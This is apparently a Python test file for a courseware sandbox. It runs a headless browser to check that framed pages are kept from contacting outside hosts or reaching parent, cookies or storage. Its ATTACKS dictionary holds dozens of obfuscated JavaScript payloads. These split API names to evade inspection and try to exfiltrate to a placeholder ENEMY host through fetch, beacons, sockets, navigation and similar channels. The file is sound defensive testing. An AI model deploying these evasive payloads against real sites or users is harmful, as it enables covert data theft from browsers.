"""Pages that hide what they do from every reader, in a real browser, framed as players frame them.

Freezing lets each of them pass: nothing that reading can see is wrong. What must hold then is the
policy, the guard and the frame: no request leaves, nobody reaches parent or storage, and who
navigates stays where it is.
"""

import html
import json
import os
import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any, Final

import pytest

from etude.courseware.containment import EMBEDDER_POLICY, SANDBOX
from etude.courseware.html_inline import contained
from etude.testing.waiting import run_bounded

# Names are put together when the script runs, so that no reader of its text finds them.
HIDDEN: Final = """const W=window,J=(...p)=>p.join(""),E=J("htt","p://ENEMY/"),D=document,
quiet=f=>{try{const p=f();p&&p.catch&&p.catch(()=>{})}catch(e){}},
say=(k,v)=>parent.postMessage({k,v:String(v).slice(0,200)},"*");
const put=(n,a)=>{const e=D.createElement(n);for(const k in a)e.setAttribute(k,a[k]);
D.body.append(e);return e};"""
ATTACKS: Final = {
    "fetch": 'quiet(()=>W[J("fe","tch")](E+"fetch"))',
    "xhr": 'quiet(()=>{const x=new W[J("XMLHttp","Request")]();x.open("GET",E+"xhr");x.send()})',
    "beacon": 'quiet(()=>W.navigator[J("send","Beacon")](E+"beacon","x"))',
    "socket": 'quiet(()=>new W[J("Web","Socket")](J("w","s://ENEMY/socket")))',
    "events": 'quiet(()=>new W[J("Event","Source")](E+"events"))',
    "image": 'quiet(()=>{new W.Image().src=E+"image"})',
    "picture": 'quiet(()=>put("img",{src:E+"picture",srcset:E+"set 2x"}))',
    "style": 'quiet(()=>{put("style",{}).textContent=J("body{background:ur","l(",E,"style)}")})',
    "import": 'quiet(()=>{put("style",{}).textContent=J("@im","port \\"",E,"css\\";")})',
    "font": 'quiet(()=>{const f=new W.FontFace("x",J("ur","l(",E,"font)"));return f.load()})',
    "script": 'quiet(()=>put("script",{src:E+"script.js"}))',
    "module": 'quiet(()=>{put("script",{type:"module"}).textContent='
    'J("im","port \\"",E,"m.js\\"")})',
    "link": 'quiet(()=>["stylesheet","prefetch","preload","icon",'
    '"modulepreload","manifest","prerender"].forEach(rel=>put("link",{rel,href:E+rel,as:"image"})))',
    "preconnect": 'quiet(()=>put("link",{rel:"preconnect",href:E}))',
    "speculation": 'quiet(()=>{put("script",{type:J("specula","tionrules")}).textContent='
    'JSON.stringify({prefetch:[{urls:[E+"rules"]}]})})',
    "media": 'quiet(()=>{put("video",{src:E+"video",poster:E+"poster",autoplay:""});'
    'put("audio",{src:E+"audio",autoplay:""})})',
    "frame": 'quiet(()=>put(J("ifr","ame"),{src:E+"frame"}))',
    "inner": 'quiet(()=>{const f=put(J("ifr","ame"),{srcdoc:J("<img src=",E,"inner>")});'
    'f.contentWindow&&f.contentWindow[J("fe","tch")](E+"inner2")})',
    "object": 'quiet(()=>{put(J("obj","ect"),{data:E+"object"});'
    'put(J("emb","ed"),{src:E+"embed"})})',
    "worker": 'quiet(()=>new W[J("Wor","ker")](URL.createObjectURL(new Blob([J("im","portScripts",'
    '"(\\"",E,"worker\\")")]))))',
    "rtc": 'quiet(()=>{const R=W[J("RTCPeer","Connection")]||W[J("webkitRTCPeer","Connection")];'
    'if(R){say("reached","rtc");const r=new R({iceServers:[{urls:J("stun:","ENEMY")}]});'
    'r.createDataChannel("x");r.createOffer().then(o=>r.setLocalDescription(o))}})',
    "transport": 'quiet(()=>new W[J("Web","Transport")](J("https://","ENEMY/transport")))',
    "refresh": 'quiet(()=>D.head.append(Object.assign(D.createElement("meta"),{httpEquiv:"refresh",'
    'content:J("0;ur","l=",E,"refresh")})))',
    "location": 'quiet(()=>{W[J("loca","tion")][J("hr","ef")]=E+"location"})',
    "assign": 'quiet(()=>W[J("loca","tion")][J("ass","ign")](E+"assign"))',
    "self": 'quiet(()=>{self[J("loca","tion")]=E+"self"})',
    "script-address": 'quiet(()=>{W[J("loca","tion")][J("hr","ef")]='
    'J("java","script:fe","tch(\'",E,"js\')")})',
    "data-address": 'quiet(()=>{W[J("loca","tion")][J("hr","ef")]='
    'J("data:text/ht","ml,<img src=",E,"data>")})',
    "anchor": 'quiet(()=>{const a=put("a",{});a[J("hr","ef")]=E+"anchor";a.click()})',
    "place": 'quiet(()=>{const a=put("a",{});a[J("hr","ef")]="#there";put("p",{id:"there"});'
    "a.click()})",
    "ping": 'quiet(()=>{const a=put("a",{});a[J("hr","ef")]="#x";'
    'a[J("pi","ng")]=E+"ping";a.click()})',
    "download": 'quiet(()=>{const a=put("a",{});a[J("hr","ef")]=E+"download";'
    'a[J("down","load")]="x";a.click()})',
    "form": 'quiet(()=>{const f=put("form",{method:"post"});'
    'f[J("act","ion")]=E+"form";f.submit()})',
    "open": 'quiet(()=>{const w=W[J("op","en")](E+"open");if(w)say("reached","open")})',
    "base": 'quiet(()=>{D.head.append(Object.assign(D.createElement("base"),{href:E}));'
    'put("img",{src:"based"})})',
    "parent": 'quiet(()=>say("reached","parent "+W[J("par","ent")][J("docu","ment")].title))',
    "top": 'quiet(()=>{W[J("to","p")][J("loca","tion")][J("hr","ef")]=E+"top"})',
    "opener": 'quiet(()=>{if(W[J("open","er")])say("reached","opener")})',
    "frame-element": 'quiet(()=>{if(W[J("frame","Element")])say("reached","frame element")})',
    "cookie": 'quiet(()=>{D[J("coo","kie")]="a=1";if(D[J("coo","kie")])say("reached","cookie")})',
    "storage": 'quiet(()=>{const s=W[J("local","Storage")];if(s.getItem("secret"))'
    'say("reached","storage");s.setItem("left","x");'
    'if(s.getItem("left")!=="x")say("reached","no storage in memory")})',
    "prototype": 'quiet(()=>{const s=W[J("Stor","age")].prototype.getItem.call('
    'W[J("local","Storage")],"secret");if(s)say("reached","storage by prototype")})',
    "database": 'quiet(()=>{const r=W[J("indexed","DB")].open("x");'
    'r.onsuccess=()=>say("reached","database")})',
    "caches": 'quiet(()=>W[J("cac","hes")].open("x").then(()=>say("reached","caches")))',
    "service": 'quiet(()=>W.navigator[J("service","Worker")].register("x.js")'
    '.then(()=>say("reached","service worker")))',
    "eval": 'quiet(()=>{if(W[J("ev","al")]("1+1")===2)say("reached","eval")})',
}  # fmt: skip
LEAVING: Final = frozenset(
    {"refresh", "location", "assign", "self", "data-address", "anchor", "download"}
)
HOST: Final = """<!DOCTYPE html><html><head><title>the app</title>
<meta http-equiv="Content-Security-Policy" content="POLICY"></head><body><pre id="told"></pre>
<script>document.cookie="secret=cookie";localStorage.setItem("secret","stored")</script><script>
const pages=PAGES,told={},frames=new Map,show=()=>{told.left=localStorage.getItem("left");
told.title=document.title;document.getElementById("told").textContent=JSON.stringify(told)};
for(const [name,page] of Object.entries(pages)){const f=document.createElement("iframe");
told[name]={reached:[],loads:0,alive:0};f.setAttribute("sandbox","SANDBOX");
f.onload=()=>{told[name].loads++;show()};f.srcdoc=page;document.body.append(f);
frames.set(f.contentWindow,told[name])}
addEventListener("message",e=>{const one=frames.get(e.source);if(!one)return;
if(e.data.k==="alive")one.alive++;else one.reached.push(e.data.v);show()});
</script></body></html>"""


class Net:
    """Two origins of this machine: the app, and somebody who would like to hear from pages."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.host = ""
        net = self

        class App(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = net.host.encode()
                self.send_response(200 if self.path == "/" else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                return

        class Enemy(BaseHTTPRequestHandler):
            def handle_one_request(self) -> None:
                # Whatever arrives counts, a bare connection too.
                line = self.rfile.readline(200)
                net.heard.append(line.decode("latin-1").strip())
                self.close_connection = True

        self.app = ThreadingHTTPServer(("127.0.0.1", 0), App)
        self.enemy = ThreadingHTTPServer(("127.0.0.1", 0), Enemy)
        for server in (self.app, self.enemy):
            Thread(target=server.serve_forever, daemon=True).start()

    def close(self) -> None:
        for server in (self.app, self.enemy):
            server.shutdown()
            server.server_close()


@pytest.fixture
def net() -> Iterator[Net]:
    made = Net()
    yield made
    made.close()


def frozen(attack: str, enemy: str) -> str:
    """Return a page as freezing leaves it; it must let the page pass."""
    alive = 'setInterval(()=>say("alive",1),200)'
    source = f"{HIDDEN}\nsetTimeout(()=>{{{attack}}},100);{alive}".replace("ENEMY", enemy)
    found: list[str] = []
    page = contained(
        f"<!DOCTYPE html><html><body><p>Play</p><script>{source}</script></body></html>",
        lambda _: None,
        lambda _: None,
        lambda kind, what: found.append(f"{kind}: {what}"),
    )
    assert found == [], "a reader finds it: hide it better"
    return page


def show(
    browser: Path,
    pages: dict[str, str],
    net: Net,
    profile: Path,
    *,
    sandbox: str = SANDBOX,
    policy: str = EMBEDDER_POLICY,
) -> dict[str, Any]:
    """Show pages in one browser for a while; return what the app was told."""
    data = json.dumps(pages).replace("<", "\\u003c")
    net.host = HOST.replace("PAGES", data).replace("SANDBOX", sandbox)
    net.host = net.host.replace("POLICY", policy)
    command = [
        str(browser), "--headless", "--disable-gpu", "--no-first-run", "--disable-extensions",
        "--disable-background-networking", f"--user-data-dir={profile}",
        "--disable-features=IsolateSandboxedIframes", "--virtual-time-budget=20000", "--dump-dom",
        f"http://127.0.0.1:{net.app.server_port}/",
    ]  # fmt: skip
    if os.geteuid() == 0:  # the browser's own sandbox does not run as root
        command.insert(1, "--no-sandbox")
    done = run_bounded(command, capture_output=True, check=True, limit_s=240)
    match = re.search(r'<pre id="told">(.*?)</pre>', done.stdout.decode(), re.DOTALL)
    assert match is not None, done.stderr.decode()[-2000:]
    told: dict[str, Any] = json.loads(html.unescape(match[1]))
    return told


def test_what_hides_from_readers_is_contained(browser: Path, net: Net, tmp_path: Path) -> None:
    """No request leaves, nothing outside is reached, nothing is stored, every page stays."""
    enemy = f"127.0.0.1:{net.enemy.server_port}"
    pages = {name: frozen(attack, enemy) for name, attack in ATTACKS.items()}
    told = show(browser, pages, net, tmp_path / "profile")
    # Chromium connects before it asks the policy: bare connections, which carry nothing.
    assert set(net.heard) <= {""}
    assert told.pop("title") == "the app"
    assert told.pop("left") is None
    assert {name for name, one in told.items() if one["reached"]} == set()
    gone = {name for name, one in told.items() if one["loads"] != 1}
    assert gone <= LEAVING, "who navigates loses its own frame, nobody else anything"
    assert {name for name, one in told.items() if not one["alive"]} <= gone


def test_the_attacks_are_real(browser: Path, net: Net, tmp_path: Path) -> None:
    """The same pages without policy and guard, in a frame of the app's own origin, do get out."""
    enemy = f"127.0.0.1:{net.enemy.server_port}"
    wanted = ("fetch", "image", "location", "storage", "parent", "cookie", "frame", "eval")
    pages = {
        name: f"<body><script>{HIDDEN}\n{ATTACKS[name]}</script>".replace("ENEMY", enemy)
        for name in wanted
    }
    sandbox = "allow-scripts allow-same-origin"
    told = show(browser, pages, net, tmp_path / "profile", sandbox=sandbox, policy="img-src *")
    paths = {line.split()[1] for line in net.heard if line.startswith("GET ")}
    assert {"/fetch", "/image", "/location", "/frame"} <= paths
    reached = {name for name in wanted if told[name]["reached"]}
    assert {"storage", "parent", "cookie", "eval"} <= reached
